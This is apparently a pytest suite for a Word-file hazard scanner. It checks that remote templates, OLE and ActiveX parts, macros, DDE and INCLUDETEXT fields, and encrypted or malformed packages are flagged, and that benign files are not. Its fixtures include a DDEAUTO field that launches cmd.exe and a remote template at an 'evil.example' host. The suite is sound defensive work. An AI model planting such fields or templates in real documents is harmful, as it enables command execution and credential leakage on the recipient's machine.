"""What in a Word file runs or reaches outside, and what is no such thing."""

import io
import zipfile
from pathlib import Path

import pytest

from contracts.sample import png, samples
from jjjdoc.errors import JjjdocError
from jjjdoc.ooxml.hazards import DANGEROUS, find_hazards
from jjjdoc.ooxml.opened import is_protected, open_package
from jjjdoc.ooxml.package import OFFICE
from jjjdoc.ooxml.walker import walk
from ooxml.word_files import paragraph, run, word_file
from writers.docx.opened import written

PLAIN = word_file(paragraph("A river."))
SIGNED = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"


def related(kind: str, target: str, *, external: bool = True, owner: str = "document") -> bytes:
    """Return a file one part of which leads somewhere."""
    type_ = kind if ":" in kind else f"{OFFICE}{kind}"
    mode = ' TargetMode="External"' if external else ""
    return with_parts(
        {
            f"word/_rels/{owner}.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId9" Type="{type_}" Target="{target}"{mode}/></Relationships>'
        }
    )


def with_parts(parts: dict[str, str], data: bytes = PLAIN) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(buffer, "w") as made:
        for name in archive.namelist():
            if name not in parts:
                made.writestr(name, archive.read(name))
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def field(*codes: str) -> bytes:
    marks = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    marks += [f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes]
    marks += [
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
        run("result"),
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ]
    return word_file(paragraph("".join(marks)))


CASES = [
    ("remote_template", related("attachedTemplate", "https://evil.example/a.dotm", owner="settings")),
    ("remote_template", related("attachedTemplate", "\\\\server\\share\\a.dotm", owner="settings")),
    ("remote_template", related("attachedTemplate", "file://server/share/a.dotm", owner="settings")),
    ("remote_template", related("attachedTemplate", "file:///\\\\server\\a.dotm", owner="settings")),
    ("template", related("attachedTemplate", "file:///C:\\Users\\li\\house.dotx", owner="settings")),
    ("linked_picture", related("image", "http://example.org/a.png")),
    ("linked_object", related("oleObject", "mhtml:https://example.org/a.html")),
    ("embedded_object", related("oleObject", "embeddings/a.bin", external=False)),
    ("embedded_object", related("package", "embeddings/a.docx", external=False)),
    ("control", related("control", "activeX/activeX1.xml", external=False)),
    ("other_format", related("aFChunk", "afchunk.rtf", external=False)),
    ("subdocument", related("subDocument", "chapter.docx")),
    ("subdocument", related("frame", "http://example.org/frame.html")),
    ("data_source", related("mailMergeSource", "file:///C:/list.csv", owner="settings")),
    ("data_source", related("oleObject", "file:///C:/a.xlsx", owner="charts/x")),
    ("local_link", related("hyperlink", "file:///C:/secret.xlsx")),
    ("local_link", related("hyperlink", "\\\\server\\share")),
    ("signature", related(SIGNED, "_xmlsignatures/origin.sigs", external=False)),
    ("dynamic_exchange", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    ("dynamic_exchange", field(" DD", "E excel a.xlsx ")),
    ("dynamic_exchange", word_file(f'<w:p><w:fldSimple w:instr=" DDE x ">{run("a")}</w:fldSimple></w:p>')),
    ("outer_field", field(' INCLUDETEXT "http://example.org/a.txt" ')),
    ("outer_field", field(' INCLUDEPICTURE "a.png" \\* MERGEFORMATINET ')),
]


@pytest.mark.parametrize(("kind", "data"), CASES)
def test_what_is_told(kind: str, data: bytes) -> None:
    if kind == "data_source":
        data = moved(data)
    [found] = find_hazards(open_package(data, "a.docx"))
    assert (found.kind, found.count, found.is_dangerous) == (kind, 1, kind in DANGEROUS)
    for language in ("en", "zh"):
        assert found.message("a.docx").text(language).startswith("a.docx")


def moved(data: bytes) -> bytes:
    """Return a file whose relationships of charts stand where those of charts stand."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    name = "word/_rels/charts/x.xml.rels"
    return with_parts({"word/charts/_rels/x.xml.rels": parts[name]}) if name in parts else data


@pytest.mark.parametrize(
    "data",
    [
        PLAIN,
        related("hyperlink", "https://example.org"),
        related("hyperlink", "mailto:a@example.org"),
        related("hyperlink", "#place"),
        related("image", "media/a.png", external=False),
        field(" PAGE "),
        word_file(paragraph("A cell may say DDEAUTO and INCLUDETEXT.")),
    ],
)
def test_what_is_not(data: bytes) -> None:
    assert find_hazards(open_package(data, "a.docx")) == ()


@pytest.mark.parametrize("name", ["en", "side_by_side"])
def test_editions_of_ours_have_none(name: str, tmp_path: Path) -> None:
    (tmp_path / "map.png").write_bytes(png(4, 3))
    data = written(samples(tmp_path / "map.png")[name]).data
    assert find_hazards(open_package(data, "a.docx")) == ()


def test_dangers_come_first_and_are_counted() -> None:
    links = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}{kind}" Target="http://example.org/{n}" TargetMode="External"/>'
        for n, kind in enumerate(("image", "image", "oleObject"))
    )
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    found = find_hazards(open_package(with_parts({"word/_rels/document.xml.rels": rels}), "a.docx"))
    assert [(each.kind, each.count) for each in found] == [("linked_object", 1), ("linked_picture", 2)]


MACRO_TYPE = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"'
    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        pytest.param(with_parts({"[Content_Types].xml": MACRO_TYPE}), "has macros", id="a .docm"),
        pytest.param(with_parts({"word/vbaProject.bin": ""}), "has macros", id="macros"),
        pytest.param(
            with_parts(
                {
                    "word/_rels/document.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                    ' Target="harmless.bin"/></Relationships>',
                    "word/harmless.bin": "x",
                }
            ),
            "has macros",
            id="macros by another name",
        ),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "Word 97", id="a .doc"),
        pytest.param(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            "protected by a password",
            id="encrypted",
        ),
        pytest.param(
            with_parts(
                {
                    "word/document.xml": '<?xml version="1.0" encoding="IBM037"?>',
                }
            ),
            "damaged",
            id="no XML",
        ),
    ],
)
def test_what_is_not_opened(data: bytes, words: str) -> None:
    with pytest.raises(JjjdocError, match=words):
        walk(open_package(data, "a.docx"))


def test_a_document_type_in_a_rare_encoding() -> None:
    text = '<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    package = open_package(PLAIN, "a.docx")
    package.entries[package.main] = text.encode("utf-32")
    with pytest.raises(JjjdocError, match=r"DOCTYPE|damaged"):
        package.root(package.main)


@pytest.mark.parametrize(
    "content", ["<w:x>" * 300 + "</w:x>" * 300, f"<w:t>{'x' * 10_100_000}</w:t>"], ids=["deep", "long"]
)
def test_what_is_too_deep_or_long(content: str) -> None:
    package = open_package(word_file("<w:p/>"), "a.docx")
    package.entries[package.main] = (
        f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{content}</w:document>'.encode()
    )
    with pytest.raises(JjjdocError, match="has deeper nesting or a longer text"):
        package.root(package.main)


@pytest.mark.parametrize(
    ("edit", "plain", "tracked"),
    [
        ("comments", True, True),
        ("readOnly", True, True),
        ("forms", True, True),
        ("trackedChanges", True, False),
        ("none", False, False),
    ],
)
def test_protection(edit: str, plain: bool, tracked: bool) -> None:
    for enforcement, is_on in (("1", True), ("0", False)):
        settings = f'<w:documentProtection w:edit="{edit}" w:enforcement="{enforcement}"/>'
        package = open_package(word_file("<w:p/>", {"settings": settings}), "a.docx")
        assert is_protected(package, tracked=False) == (plain and is_on)
        assert is_protected(package, tracked=True) == (tracked and is_on)
